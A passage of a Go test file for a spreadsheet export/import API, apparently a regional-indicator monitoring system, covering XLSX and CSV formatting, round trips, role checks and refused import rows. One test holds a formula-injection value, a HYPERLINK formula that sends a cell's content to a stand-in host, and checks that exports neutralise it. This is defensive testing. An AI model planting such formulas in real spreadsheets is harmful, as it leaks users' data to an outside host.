package api

import (
	"archive/zip"
	"bytes"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/pantau-id/pantau/models"
	"github.com/pantau-id/pantau/models/modelstest"
	"github.com/pantau-id/pantau/sheets"
)

// importJSON is an import's answer.
type importJSON struct {
	Error *struct {
		Code, Message string
	} `json:"error"`
	DryRun  bool `json:"dry_run"`
	Applied bool `json:"applied"`
	Rows    []struct {
		Sheet  string
		Row    int
		Key    string
		Action string
		Errors []struct {
			Field, Code, Message string
		}
		Changes map[string]struct{ From, To any }
	}
	Totals struct{ Create, Update, Unchanged, Error int }
}

// importFile posts a file to an import route and decodes the answer when it is one.
func (e *env) importFile(path string, role models.Role, name string, data []byte) (*response, importJSON) {
	e.t.Helper()
	r := e.upload(path, role, name, data)
	var out importJSON
	if r.Status == 200 || (r.Status == 422 && bytes.Contains(r.Body, []byte(`"rows"`))) {
		r.decode(e.t, &out)
	}
	return r, out
}

// rowOf finds an import row by key.
func (a importJSON) rowOf(t *testing.T, key string) (action string, codes []string) {
	t.Helper()
	for _, r := range a.Rows {
		if r.Key == key {
			for _, p := range r.Errors {
				codes = append(codes, p.Field+":"+p.Code)
				if p.Message == "" || p.Message == p.Code {
					t.Errorf("row %s: problem %s has no message", key, p.Code)
				}
			}
			return r.Action, codes
		}
	}
	t.Fatalf("no row %s in %+v", key, a.Rows)
	return "", nil
}

func openXLSX(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("the export does not open as XLSX: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func sheetRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// column finds a header's column number (1-based) in a sheet's first row.
func column(t *testing.T, rows [][]string, header string) int {
	t.Helper()
	i := slices.Index(rows[0], header)
	if i < 0 {
		t.Fatalf("no column %q in %q", header, rows[0])
	}
	return i + 1
}

// addLeaves adds indicators I3 and I4 to the test period, so that a region has four items.
func (e *env) addLeaves() {
	e.t.Helper()
	for _, code := range []string{"I3", "I4"} {
		e.mustOK(e.call("POST", "/api/v1/periods/2019/indicators", models.RoleCoordinator,
			map[string]any{"code": code, "area": "PTSP", "title": "Indikator " + code}))
	}
}

// approve claims an item with a document as the coordinator and has the reviewer approve it.
func (e *env) approve(region, indicator string, progress float64) {
	e.t.Helper()
	item := "/api/v1/periods/2019/regions/" + region + "/items/" + indicator
	e.mustOK(e.call("PATCH", item, models.RoleCoordinator, map[string]any{"progress": progress, "note": "diklaim"}))
	var ev struct{ ID int64 }
	e.mustOK(e.upload(item+"/evidence", models.RoleCoordinator, "sk.pdf", samplePDF(e.t, region+indicator))).decode(e.t, &ev)
	e.mustOK(e.call("POST", item+"/reviews", models.RoleReviewer, map[string]any{"decision": "approve", "accept_evidence": []int64{ev.ID}}))
}

// TestExportTables exports every table in both formats and reads the files back: XLSX with
// Indonesian headers, a frozen header row, a filter, percentages formatted as such; CSV with a
// byte-order mark, decimal points or (with ;) decimal commas; filters by province and region.
func TestExportTables(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e *env) {
		e.approve("62.08", "I1", 87.5)
		e.mustOK(e.call("PUT", "/api/v1/periods/2019/regions/62.08/delegation", models.RoleCoordinator,
			map[string]any{"total": 120, "delegated": 90, "legal_basis": "Peraturan Bupati Seruyan Nomor 5 Tahun 2019"}))
		first := map[string]string{"summary": "Peringkat", "items": "Kode Pemda", "radar": "Kode Pemda", "delegation": "Kode Pemda",
			"catalogue": "Kode area", "audit": "No. urut"}
		for _, table := range sheets.Tables {
			r := e.mustOK(e.call("GET", "/api/v1/periods/2019/export/"+table+".xlsx", models.RoleAdmin, nil))
			if ct := r.Header.Get("Content-Type"); ct != xlsxType {
				t.Errorf("%s.xlsx: Content-Type %q", table, ct)
			}
			if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, "pantau-2019-"+table+".xlsx") {
				t.Errorf("%s.xlsx: Content-Disposition %q", table, cd)
			}
			f := openXLSX(t, r.Body)
			sheet := f.GetSheetList()[0]
			rows := sheetRows(t, f, sheet)
			if len(rows) < 2 || rows[0][0] != first[table] {
				t.Errorf("%s.xlsx: rows %q, want a header starting %q and data", table, rows, first[table])
				continue
			}
			panes, err := f.GetPanes(sheet)
			if err != nil || !panes.Freeze || panes.YSplit != 1 {
				t.Errorf("%s.xlsx: header row not frozen: %+v %v", table, panes, err)
			}
			if tables, err := f.GetTables(sheet); err != nil || len(tables) != 1 || !strings.HasPrefix(tables[0].Range, "A1:") {
				t.Errorf("%s.xlsx: no filtered table: %+v %v", table, tables, err)
			}
			if w, _ := f.GetColWidth(sheet, "A"); w < float64(len(first[table])) {
				t.Errorf("%s.xlsx: column A is %v wide, narrower than its header", table, w)
			}

			r = e.mustOK(e.call("GET", "/api/v1/periods/2019/export/"+table+".csv", models.RoleAdmin, nil))
			if ct := r.Header.Get("Content-Type"); ct != csvType {
				t.Errorf("%s.csv: Content-Type %q", table, ct)
			}
			if !bytes.HasPrefix(r.Body, []byte("\uFEFF"+first[table]+",")) {
				t.Errorf("%s.csv does not start with the BOM and its header: %q", table, r.Body[:min(len(r.Body), 40)])
			}
		}

		// Percentages: a number format in XLSX, points in CSV, a decimal comma with sep=;.
		f := openXLSX(t, e.mustOK(e.call("GET", "/api/v1/periods/2019/export/items.xlsx?region=62.08", models.RoleReviewer, nil)).Body)
		rows := sheetRows(t, f, "Item")
		if len(rows) != 3 {
			t.Fatalf("items of 62.08: %d rows, want the header and 2 items: %q", len(rows), rows)
		}
		progress := column(t, rows, "Klaim (%)")
		cell, _ := excelize.CoordinatesToCellName(progress, 2)
		if rows[1][progress-1] != "87.50%" {
			t.Errorf("I1's claim reads %q, want 87.50%%", rows[1][progress-1])
		}
		raw, _ := f.GetCellValue("Item", cell, excelize.Options{RawCellValue: true})
		if raw != "0.875" {
			t.Errorf("I1's claim is stored as %q, want the fraction 0.875", raw)
		}
		for _, want := range []string{"Disetujui", "1", "User reviewer"} {
			if !slices.Contains(rows[1], want) {
				t.Errorf("I1's row %q lacks %q (status, accepted documents, reviewer)", rows[1], want)
			}
		}
		csvComma := string(e.mustOK(e.call("GET", "/api/v1/periods/2019/export/items.csv?region=62.08", models.RoleOperator, nil)).Body)
		csvSemi := string(e.mustOK(e.call("GET", "/api/v1/periods/2019/export/items.csv?region=62.08&sep=;", models.RoleOperator, nil)).Body)
		if !strings.Contains(csvComma, ",87.5,87.5,") || !strings.Contains(csvSemi, ";87,5;87,5;") || strings.Count(csvSemi, "\r\n") != 3 {
			t.Errorf("CSV numbers:\n%s\n%s", csvComma, csvSemi)
		}

		all := sheetRows(t, openXLSX(t, e.mustOK(e.call("GET", "/api/v1/periods/2019/export/items.xlsx", models.RoleSignatory, nil)).Body), "Item")
		province := sheetRows(t, openXLSX(t, e.mustOK(e.call("GET", "/api/v1/periods/2019/export/summary.xlsx?province=62", models.RoleSignatory, nil)).Body), "Ringkasan")
		if len(all) != 7 || len(province) != 4 {
			t.Errorf("every region's items: %d rows, want 7; province 62's summary: %d rows, want 4", len(all), len(province))
		}
		regulation := map[string]string{"kind": "regulation"}
		for _, f := range []struct{ region, name string }{{"62.08", "perbup-draf.pdf"}, {"62.08", "perbup-5-2019.pdf"}, {"62.71", "perwali.pdf"}} {
			e.mustOK(e.uploadWith("/api/v1/periods/2019/regions/"+f.region+"/delegation/documents", models.RoleCoordinator, regulation, f.name, samplePDF(t, f.name)))
		}
		delegBook := openXLSX(t, e.mustOK(e.call("GET", "/api/v1/periods/2019/export/delegation.xlsx?region=62.08", models.RoleOperator, nil)).Body)
		deleg := sheetRows(t, delegBook, "Pendelegasian")
		if len(deleg) != 2 || !slices.Contains(deleg[1], "Peraturan Bupati Seruyan Nomor 5 Tahun 2019") || !slices.Contains(deleg[1], "75.00%") {
			t.Errorf("delegation of 62.08: %q", deleg)
		}
		// 62.08's documents only, the current one first; 62.71's is not picked.
		docs := sheetRows(t, delegBook, "Dokumen pendelegasian")
		if len(docs) != 3 || docs[1][0] != "62.08" || docs[1][3] != "perbup-5-2019.pdf" || docs[1][8] != "Berlaku" ||
			docs[2][3] != "perbup-draf.pdf" || docs[2][8] != "Diganti" || docs[1][2] != "Peraturan" || docs[1][6] != "User coordinator" {
			t.Errorf("delegation documents of 62.08: %q", docs)
		}

		e.expect(e.call("GET", "/api/v1/periods/2019/export/nope.xlsx", models.RoleAdmin, nil), 404, "not_found")
		e.expect(e.call("GET", "/api/v1/periods/2019/export/items.pdf", models.RoleAdmin, nil), 404, "not_found")
		e.expect(e.call("GET", "/api/v1/periods/2018/export/items.xlsx", models.RoleAdmin, nil), 404, "not_found")
		e.expect(e.call("GET", "/api/v1/periods/2019/export/items.xlsx?region=99.99", models.RoleAdmin, nil), 404, "not_found")
		e.expect(e.call("GET", "/api/v1/periods/2019/export/items.csv?sep=x", models.RoleAdmin, nil), 422, "validation_failed")
		e.expect(e.call("GET", "/api/v1/periods/2019/export/summary.csv?province=6", models.RoleAdmin, nil), 422, "validation_failed")
	})
}

// TestExportAuditRoles: the audit trail is exported for admins and reviewers only, filtered.
func TestExportAuditRoles(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e *env) {
		e.mustOK(e.call("PATCH", "/api/v1/periods/2019/regions/62.08/items/I1", models.RoleOperator, map[string]any{"progress": 10}))
		for _, role := range []models.Role{models.RoleCoordinator, models.RoleOperator, models.RoleSignatory} {
			e.expect(e.call("GET", "/api/v1/periods/2019/export/audit.xlsx", role, nil), 403, "forbidden")
		}
		e.expect(e.call("GET", "/api/v1/periods/2019/export/audit.csv", asAnonymous, nil), 401, "unauthenticated")
		body := string(e.mustOK(e.call("GET", "/api/v1/periods/2019/export/audit.csv?entity=item", models.RoleReviewer, nil)).Body)
		if strings.Count(body, "\r\n") != 2 || !strings.Contains(body, "2019/62.08/I1") || !strings.Contains(body, "operator@test.pantau.id") {
			t.Errorf("the audit trail of items: %s", body)
		}
		e.expect(e.call("GET", "/api/v1/periods/2019/export/audit.csv?from=yesterday", models.RoleAdmin, nil), 422, "validation_failed")
	})
}

// TestExportNeutralisesFormulas: text that a spreadsheet program would run as a formula is
// written as text in both formats, and reads back as it was.
func TestExportNeutralisesFormulas(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e *env) {
		title := `=HYPERLINK("http://contoh.invalid/?"&A1,"klik")`
		e.mustOK(e.call("POST", "/api/v1/periods/2019/indicators", models.RoleCoordinator,
			map[string]any{"code": "I3", "area": "PTSP", "title": title, "requirement": "@SUM(1+1)"}))
		e.mustOK(e.call("PATCH", "/api/v1/periods/2019/regions/62.08/items/I1", models.RoleOperator, map[string]any{"progress": 5, "note": "+62 811 000"}))
		csvText := string(e.mustOK(e.call("GET", "/api/v1/periods/2019/export/catalogue.csv", models.RoleAdmin, nil)).Body)
		if !strings.Contains(csvText, `"'=HYPERLINK(""http://contoh.invalid/?""&A1,""klik"")"`) || !strings.Contains(csvText, ",'@SUM(1+1),") {
			t.Errorf("CSV does not neutralise formulas:\n%s", csvText)
		}
		data := e.mustOK(e.call("GET", "/api/v1/periods/2019/export/catalogue.xlsx", models.RoleAdmin, nil)).Body
		if zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data))); err == nil {
			for _, zf := range zr.File {
				if rc, err := zf.Open(); err == nil {
					var b bytes.Buffer
					b.ReadFrom(rc)
					rc.Close()
					if bytes.Contains(b.Bytes(), []byte("<f>")) || bytes.Contains(b.Bytes(), []byte("<f ")) {
						t.Errorf("%s holds a formula", zf.Name)
					}
				}
			}
		}
		f := openXLSX(t, data)
		rows := sheetRows(t, f, "Katalog")
		if rows[3][column(t, rows, "Uraian")-1] != "'"+title {
			t.Errorf("XLSX title cell %q", rows[3])
		}
		items := string(e.mustOK(e.call("GET", "/api/v1/periods/2019/export/items.csv?region=62.08", models.RoleAdmin, nil)).Body)
		if !strings.Contains(items, ",'+62 811 000,") {
			t.Errorf("the note is not neutralised:\n%s", items)
		}
		// Read back, the neutralised texts are what they were: nothing changes.
		_, got := e.importFile("/api/v1/periods/2019/import/catalogue?dry_run=true", models.RoleAdmin, "k.xlsx", data)
		if got.Totals.Unchanged != 3 || got.Totals.Update+got.Totals.Create+got.Totals.Error != 0 {
			t.Errorf("the neutralised catalogue reads back changed: %+v", got)
		}
		_, got = e.importFile("/api/v1/periods/2019/import/claims?dry_run=true", models.RoleAdmin, "i.csv", []byte(items))
		if got.Totals.Unchanged != 3 || got.Totals.Update+got.Totals.Error != 0 {
			t.Errorf("the neutralised note reads back changed: %+v", got)
		}
	})
}

// TestCatalogueRoundTrip: the catalogue exported, in each format, imports back with nothing
// to change, and applying that changes nothing.
func TestCatalogueRoundTrip(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e *env) {
		e.mustOK(e.call("POST", "/api/v1/periods/2019/areas", models.RoleCoordinator, map[string]any{"code": "PBJ", "name": "Pengadaan", "weight": 2.5}))
		e.mustOK(e.call("POST", "/api/v1/periods/2019/areas", models.RoleCoordinator, map[string]any{"code": "APIP", "name": "Kapabilitas APIP"}))
		e.mustOK(e.call("POST", "/api/v1/periods/2019/indicators", models.RoleCoordinator, map[string]any{"code": "PBJ.1", "area": "PBJ",
			"title": "RUP", "weight": 1.25, "requirement": "Tautan SiRUP; daftar paket", "applies_to": []string{"regency", "city"}}))
		e.mustOK(e.call("POST", "/api/v1/periods/2019/indicators", models.RoleCoordinator, map[string]any{"code": "PBJ.1.a", "parent": "PBJ.1",
			"title": "Sub, dengan koma; dan \"kutip\"", "weight": 0.5}))
		before := e.counts()
		for _, file := range []string{"catalogue.xlsx", "catalogue.csv", "catalogue.csv?sep=;"} {
			data := e.mustOK(e.call("GET", "/api/v1/periods/2019/export/"+file, models.RoleAdmin, nil)).Body
			name := strings.SplitN(file, "?", 2)[0]
			_, dry := e.importFile("/api/v1/periods/2019/import/catalogue?dry_run=true", models.RoleCoordinator, name, data)
			if !dry.DryRun || dry.Applied || dry.Totals.Unchanged != 5 || dry.Totals.Create+dry.Totals.Update+dry.Totals.Error != 0 {
				t.Errorf("%s dry run: %+v", file, dry)
			}
			_, applied := e.importFile("/api/v1/periods/2019/import/catalogue", models.RoleAdmin, name, data)
			if !applied.Applied || applied.Totals.Unchanged != 5 {
				t.Errorf("%s applied: %+v", file, applied)
			}
		}
		if after := e.counts(); !equalCounts(before, after) {
			t.Errorf("a round trip changed the database: %v → %v", before, after)
		}
	})
}

// catalogueJSON is the catalogue tree.
type catalogueJSON []struct {
	Code       string
	Name       string
	Weight     float64
	Indicators []struct {
		Code, Title, Requirement string
		Weight                   float64
		AppliesTo                []string `json:"applies_to"`
		Children                 []struct {
			Code      string
			Weight    float64
			AppliesTo []string `json:"applies_to"`
		}
	}
}

// TestCatalogueImportFromOtherPrograms imports a catalogue that openpyxl wrote the way people
// lay such files out (title row, merged two-row header, blank rows, spaces, numbers as text with
// a decimal comma, a formula), and the same file opened and saved by a spreadsheet application
// (Gnumeric), and checks the plan, then the catalogue and audit trail after it. The formula is
// never evaluated: openpyxl stores none of its results, so its weight is blank (the default, 1);
// Gnumeric stores the result it computed (2), which is read as the cell's value.
func TestCatalogueImportFromOtherPrograms(t *testing.T) {
	for file, formulaWeight := range map[string]float64{"catalogue-openpyxl.xlsx": 1, "catalogue-gnumeric.xlsx": 2} {
		t.Run(file, func(t *testing.T) { testCatalogueImport(t, file, formulaWeight) })
	}
}

func testCatalogueImport(t *testing.T, file string, formulaWeight float64) {
	data, err := os.ReadFile("testdata/" + file)
	if err != nil {
		t.Fatal(err)
	}
	forEachEnv(t, func(t *testing.T, e *env) {
		before := e.counts()
		r, dry := e.importFile("/api/v1/periods/2019/import/catalogue?dry_run=true", models.RoleCoordinator, "katalog.xlsx", data)
		e.mustOK(r)
		var labels map[string]map[string]map[string]string
		e.mustOK(e.call("GET", "/api/v1/labels", asAnonymous, nil)).decode(t, &labels)
		for _, a := range []string{"create", "update", "unchanged", "error"} {
			if labels["id"]["import_action"][a] == "" || labels["en"]["import_action"][a] == labels["id"]["import_action"][a] {
				t.Errorf("no label for the import action %s: %v", a, labels)
			}
		}
		if dry.Totals != (struct{ Create, Update, Unchanged, Error int }{Create: 2, Update: 1, Unchanged: 1}) {
			t.Fatalf("plan totals %+v: %s", dry.Totals, r.Body)
		}
		for key, want := range map[string]string{"I1": "unchanged", "I2": "update", "PBJ.1": "create", "PBJ.1.a": "create"} {
			if got, codes := dry.rowOf(t, key); got != want || codes != nil {
				t.Errorf("row %s: %s %v, want %s", key, got, codes, want)
			}
		}
		if dry.Rows[0].Row != 5 || dry.Rows[1].Row != 7 || dry.Rows[0].Sheet != "Katalog 2019" {
			t.Errorf("rows are not numbered as the spreadsheet shows them: %+v", dry.Rows)
		}
		if c := dry.Rows[1].Changes; len(c) != 3 || c["weight"].To != 2.5 || c["requirement"].To != "Tangkapan layar" {
			t.Errorf("I2's changes: %+v", c)
		}
		if after := e.counts(); !equalCounts(before, after) {
			t.Errorf("a dry run changed the database: %v → %v", before, after)
		}

		lastEvent := e.lastAuditID()
		e.mustOK(e.upload("/api/v1/periods/2019/import/catalogue", models.RoleAdmin, "katalog.xlsx", data))
		var tree catalogueJSON
		e.mustOK(e.call("GET", "/api/v1/periods/2019/catalogue", models.RoleReviewer, nil)).decode(t, &tree)
		if len(tree) != 2 || tree[1].Code != "PBJ" || tree[1].Weight != 2 || len(tree[1].Indicators) != 1 {
			t.Fatalf("catalogue after the import: %+v", tree)
		}
		i2, pbj := tree[0].Indicators[1], tree[1].Indicators[0]
		if i2.Weight != 2.5 || i2.Requirement != "Tangkapan layar" || !slices.Equal(i2.AppliesTo, []string{"regency", "city"}) {
			t.Errorf("I2 after the import: %+v", i2)
		}
		if pbj.Weight != formulaWeight || len(pbj.Children) != 1 || pbj.Children[0].Code != "PBJ.1.a" || !slices.Equal(pbj.Children[0].AppliesTo, []string{"regency", "city"}) {
			t.Errorf("PBJ.1 after the import: %+v", pbj)
		}
		got := e.auditSince(lastEvent)
		want := []string{"area 2019/PBJ create", "indicator 2019/PBJ.1 create", "indicator 2019/PBJ.1.a create", "indicator 2019/I2 update", "catalogue 2019 import"}
		if !slices.Equal(got, want) {
			t.Errorf("audit events %q, want %q", got, want)
		}
		// Importing it again changes nothing.
		_, again := e.importFile("/api/v1/periods/2019/import/catalogue?dry_run=true", models.RoleCoordinator, "katalog.xlsx", data)
		if again.Totals.Unchanged != 4 {
			t.Errorf("the same file again: %+v", again.Totals)
		}
	})
}

// TestCatalogueImportRefusals: rows in error are answered with why, nothing is applied (422),
// and the catalogue import is for national managers of an open period only.
func TestCatalogueImportRefusals(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e *env) {
		e.mustOK(e.call("PATCH", "/api/v1/periods/2019/regions/62.08/items/I1", models.RoleOperator, map[string]any{"progress": 10}))
		csvText := "area_code;area_name;indicator_code;parent;title;weight;applies_to\n" +
			"PTSP;Pelayanan Terpadu Satu Pintu;I9;;Baru;1;\n" +
			"PTSP;Nama lain;I10;;Baru juga;1;\n" +
			"PTSP;Pelayanan Terpadu Satu Pintu;I1.a;I1;Sub dari item yang sudah diisi;1;\n" +
			"PTSP;Pelayanan Terpadu Satu Pintu;I9;;Dua kali;1;\n" +
			"PTSP;Pelayanan Terpadu Satu Pintu;bad code!;;Kode salah;0;\n" +
			"XX;;X1;;Area tanpa nama;1;\n" +
			"PTSP;Pelayanan Terpadu Satu Pintu;I2;I1;Pindah induk;abc;desa\n"
		before := e.counts()
		r, got := e.importFile("/api/v1/periods/2019/import/catalogue", models.RoleAdmin, "k.csv", []byte(csvText))
		e.expect(r, 422, "validation_failed")
		if got.Applied || got.Totals.Create != 1 || got.Totals.Error != 6 {
			t.Errorf("refused import: %+v", got)
		}
		for key, want := range map[string][]string{
			"I10":       {"area_name:area_mismatch"},
			"I1.a":      {"parent:indicator_has_items"},
			"bad code!": {"indicator_code:code_format"},
			"X1":        {"area_name:required", "area_code:unknown_area"},
			"I2":        {"weight:number_format", "applies_to:applies_to", "parent:parent_change"},
		} {
			if _, codes := got.rowOf(t, key); !slices.Equal(codes, want) {
				t.Errorf("row %s: problems %q, want %q", key, codes, want)
			}
		}
		if got.Rows[3].Key != "I9" || got.Rows[3].Errors[0].Code != "duplicate_row" || got.Rows[3].Row != 5 {
			t.Errorf("the repeated I9: %+v", got.Rows[3])
		}
		if after := e.counts(); !equalCounts(before, after) {
			t.Errorf("a refused import changed the database: %v → %v", before, after)
		}
		r = e.upload("/api/v1/periods/2019/import/catalogue?dry_run=true", models.RoleAdmin, "k.csv", []byte(csvText))
		if r.Status != 200 {
			t.Errorf("a dry run with refused rows: %d, want 200", r.Status)
		}
		if r := e.upload("/api/v1/periods/2019/import/catalogue", models.RoleOperator, "k.csv", []byte(csvText)); r.Status != 403 {
			t.Errorf("an operator imports the catalogue: %d", r.Status)
		}
		scoped := models.UserInput{Email: "prov@test.pantau.id", Name: "Koordinator 62", Role: models.RoleCoordinator, Password: testPassword, Province: ptr("62")}
		if _, err := e.db.CreateUser(t.Context(), scoped, false); err != nil {
			t.Fatal(err)
		}
		e.tokens["prov"] = e.login(scoped.Email)
		e.expect(e.upload("/api/v1/periods/2019/import/catalogue", "prov", "k.csv", []byte(csvText)), 403, "forbidden")
		e.mustOK(e.call("POST", "/api/v1/periods/2019/close", models.RoleAdmin, nil))
		e.expect(e.upload("/api/v1/periods/2019/import/catalogue?dry_run=true", models.RoleAdmin, "k.csv", []byte(csvText)), 409, "period_closed")
	})
}

func ptr[T any](v T) *T { return &v }

// claimJSON is an item's claim as the items route answers it.
type claimJSON struct {
	IndicatorCode    string  `json:"indicator_code"`
	Progress         float64 `json:"progress"`
	VerifiedProgress float64 `json:"verified_progress"`
	Status, Note     string
}

func (e *env) items(region string) map[string]claimJSON {
	e.t.Helper()
	var list []claimJSON
	e.mustOK(e.call("GET", "/api/v1/periods/2019/regions/"+region+"/items", models.RoleAdmin, nil)).decode(e.t, &list)
	out := map[string]claimJSON{}
	for _, it := range list {
		out[it.IndicatorCode] = it
	}
	return out
}

// TestClaimsRoundTrip exports a region's items, changes three claims in the file (as a
// spreadsheet program stores them) and imports it: exactly those three change, each audited as
// a claim, verified values untouched; the same file again changes nothing; a file older than
// someone else's claim is refused for that row.
func TestClaimsRoundTrip(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e *env) {
		e.addLeaves()
		e.approve("62.08", "I1", 40)
		e.mustOK(e.call("PATCH", "/api/v1/periods/2019/regions/62.08/items/I2", models.RoleOperator, map[string]any{"progress": 10, "note": "awal"}))
		data := e.mustOK(e.call("GET", "/api/v1/periods/2019/export/items.xlsx?region=62.08", models.RoleOperator, nil)).Body
		f := openXLSX(t, data)
		rows := sheetRows(t, f, "Item")
		progress := column(t, rows, "Klaim (%)")
		for row, value := range map[int]float64{2: 0.6, 4: 0.255, 5: 1} { // I1, I3, I4
			cell, _ := excelize.CoordinatesToCellName(progress, row)
			if err := f.SetCellValue("Item", cell, value); err != nil {
				t.Fatal(err)
			}
		}
		buf, err := f.WriteToBuffer()
		if err != nil {
			t.Fatal(err)
		}
		edited := buf.Bytes()
		lastEvent := e.lastAuditID()
		_, dry := e.importFile("/api/v1/periods/2019/import/claims?dry_run=true", models.RoleOperator, "klaim.xlsx", edited)
		if dry.Totals.Update != 3 || dry.Totals.Unchanged != 1 || dry.Totals.Error != 0 {
			t.Fatalf("plan: %+v", dry)
		}
		if c := dry.Rows[0].Changes["progress"]; dry.Rows[0].Key != "62.08/I1" || c.From != 40.0 || c.To != 60.0 {
			t.Errorf("I1's change: %+v", dry.Rows[0])
		}
		e.mustOK(e.upload("/api/v1/periods/2019/import/claims", models.RoleOperator, "klaim.xlsx", edited))
		items := e.items("62.08")
		for code, want := range map[string]claimJSON{
			"I1": {Progress: 60, VerifiedProgress: 40, Status: "submitted", Note: "diklaim"},
			"I2": {Progress: 10, Status: "submitted", Note: "awal"},
			"I3": {Progress: 25.5, Status: "submitted"},
			"I4": {Progress: 100, Status: "submitted"},
		} {
			got := items[code]
			if got.Progress != want.Progress || got.VerifiedProgress != want.VerifiedProgress || got.Status != want.Status || got.Note != want.Note {
				t.Errorf("%s after the import: %+v, want %+v", code, got, want)
			}
		}
		got := e.auditSince(lastEvent)
		want := []string{"item 2019/62.08/I1 claim", "item 2019/62.08/I3 claim", "item 2019/62.08/I4 claim", "import 2019/claims apply"}
		if !slices.Equal(got, want) {
			t.Errorf("audit events %q, want %q", got, want)
		}
		_, again := e.importFile("/api/v1/periods/2019/import/claims", models.RoleOperator, "klaim.xlsx", edited)
		if again.Totals.Unchanged != 4 || !again.Applied {
			t.Errorf("the same file again: %+v", again)
		}

		// The file exported before someone claims I2 again is refused for I2, as a whole.
		e.mustOK(e.call("PATCH", "/api/v1/periods/2019/regions/62.08/items/I2", models.RoleCoordinator, map[string]any{"progress": 15}))
		stale := string(e.mustOK(e.call("GET", "/api/v1/periods/2019/export/items.csv?region=62.08&sep=;", models.RoleOperator, nil)).Body)
		e.mustOK(e.call("PATCH", "/api/v1/periods/2019/regions/62.08/items/I2", models.RoleCoordinator, map[string]any{"progress": 20}))
		stale = strings.Replace(stale, ";3;15;", ";3;35;", 1)
		before := e.counts()
		r, refused := e.importFile("/api/v1/periods/2019/import/claims", models.RoleOperator, "klaim.csv", []byte(stale))
		e.expect(r, 422, "validation_failed")
		if _, codes := refused.rowOf(t, "62.08/I2"); !slices.Equal(codes, []string{"version:stale_version"}) {
			t.Errorf("the stale row: %q", codes)
		}
		if after := e.counts(); !equalCounts(before, after) {
			t.Errorf("a refused import changed the database: %v → %v", before, after)
		}
	})
}

// auditSince lists the audit events after an event id as "entity key action".
func (e *env) auditSince(id int64) []string {
	e.t.Helper()
	var audit struct {
		Events []struct {
			Entity, Action string
			EntityKey      string `json:"entity_key"`
		} `json:"events"`
	}
	e.mustOK(e.call("GET", "/api/v1/audit?after="+itoa(id), models.RoleAdmin, nil)).decode(e.t, &audit)
	var out []string
	for _, ev := range audit.Events {
		out = append(out, ev.Entity+" "+ev.EntityKey+" "+ev.Action)
	}
	return out
}

func (e *env) lastAuditID() int64 {
	e.t.Helper()
	var id int64
	modelstest.Raw(e.t, e.db).Raw("SELECT COALESCE(MAX(id), 0) FROM audit_events").Scan(&id)
	return id
}

// TestClaimsImportFromOpenpyxl imports claims that openpyxl wrote: an instructions sheet first,
// a title row, a decimal comma in text, a percentage-formatted number, stray spaces.
func TestClaimsImportFromOpenpyxl(t *testing.T) {
	data, err := os.ReadFile("testdata/claims-openpyxl.xlsx")
	if err != nil {
		t.Fatal(err)
	}
	forEachEnv(t, func(t *testing.T, e *env) {
		r, got := e.importFile("/api/v1/periods/2019/import/claims", models.RoleOperator, "klaim.xlsx", data)
		e.mustOK(r)
		if got.Totals.Update != 2 || got.Rows[0].Sheet != "Klaim Seruyan" || got.Rows[0].Row != 3 || got.Rows[1].Row != 5 {
			t.Fatalf("import: %s", r.Body)
		}
		items := e.items("62.08")
		if items["I1"].Progress != 87.5 || items["I1"].Note != "SK sudah terbit" || items["I2"].Progress != 25 {
			t.Errorf("after the import: %+v", items)
		}
	})
}

// TestClaimsImportRefusals: rows are refused as the item routes refuse claims — outside the
// caller's regions, unknown, out of range, on a parent, repeated, not applicable, after the
// deadline, in a closed period — with nothing applied; a dry run answers the same with 200.
func TestClaimsImportRefusals(t *testing.T) {
	forEachEnv(t, func(t *testing.T, e *env) {
		e.mustOK(e.call("POST", "/api/v1/periods/2019/indicators", models.RoleCoordinator, map[string]any{"code": "I2.a", "parent": "I2", "title": "Sub"}))
		e.mustOK(e.call("POST", "/api/v1/periods/2019/indicators", models.RoleCoordinator,
			map[string]any{"code": "P1", "area": "PTSP", "title": "Hanya provinsi", "applies_to": []string{"province"}}))
		csvText := "Kode Pemda,Kode indikator,Klaim (%),Catatan\n" +
			"62.71,I1,50,kota\n" +
			"62.08,I9,50,\n" +
			"62.08,I2.a,150,\n" +
			"99.99,I1,5,\n" +
			"62.08,I2,50,induk\n" +
			"62.08,I1,\"12,5\",ok\n" +
			"62.08,I1,13,dua kali\n" +
			"62.08,P1,10,\n" +
			"62.08,P1,0,\n" +
			"62.08,I2.a,abc,\n"
		before := e.counts()
		r, got := e.importFile("/api/v1/periods/2019/import/claims", models.RoleOperator, "k.csv", []byte(csvText))
		e.expect(r, 422, "validation_failed")
		if got.Error == nil || got.Error.Message == "" || got.Applied {
			t.Errorf("a refused import's error: %s", r.Body)
		}
		want := [][]string{{"region_code:region_scope"}, {"indicator_code:unknown_indicator"}, {"progress:percent_range"},
			{"region_code:unknown_region"}, {"indicator_code:not_leaf"}, nil, {"indicator_code:duplicate_row"},
			{"progress:catalogue_not_applicable"}, {"indicator_code:duplicate_row"}, {"progress:number_format", "indicator_code:duplicate_row"}}
		for i, w := range want {
			var codes []string
			for _, p := range got.Rows[i].Errors {
				codes = append(codes, p.Field+":"+p.Code)
			}
			if !slices.Equal(codes, w) || got.Rows[i].Row != i+2 {
				t.Errorf("row %d (%s): %q, want %q", got.Rows[i].Row, got.Rows[i].Key, codes, w)
			}
		}
		if after := e.counts(); !equalCounts(before, after) {
			t.Errorf("a refused import changed the database: %v → %v", before, after)
		}

		one := []byte("region_code,indicator_code,progress\n62.08,I1,30\n")
		e.mustOK(e.call("PATCH", "/api/v1/periods/2019", models.RoleAdmin, map[string]any{"deadline": "2019-01-31"}))
		_, late := e.importFile("/api/v1/periods/2019/import/claims?dry_run=true", models.RoleOperator, "k.csv", one)
		if _, codes := late.rowOf(t, "62.08/I1"); !slices.Equal(codes, []string{"progress:deadline_passed"}) {
